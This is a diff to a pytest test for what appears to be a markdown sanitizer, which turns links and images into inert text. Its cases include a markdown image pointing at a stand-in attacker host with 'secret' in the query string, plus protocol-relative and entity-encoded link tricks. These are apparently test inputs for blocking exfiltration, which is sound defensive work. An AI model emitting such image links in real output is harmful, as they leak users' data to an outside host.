@@ -35,8 +35,8 @@ def test_links_images_and_tags_become_text(text: str, shown: str) -> None:
 @pytest.mark.parametrize(
     ("text", "shown"),
     [
-        ("![cat](http://evil.example/?q=secret)", "! [cat] (http://evil.example/?q=secret)"),
-        ("![cat](cat.png)", "! [cat](cat.png)"),
+        ("![cat](http://evil.example/?q=secret)", "[cat] (http://evil.example/?q=secret)"),
+        ("![cat](cat.png), it works![2]", "[cat](cat.png), it works! [2]"),
         ("see [the guide](https://example.org/guide)", "see [the guide] (https://example.org/guide)"),
         ("[a](//evil.example) [b](&#104;ttp:x) [c](<x>)", "[a] (//evil.example) [b] (&#104;ttp:x) [c] (<x>)"),
         ("see [copy](/commands/copy/#flags)", "see [copy](/commands/copy/#flags)"),
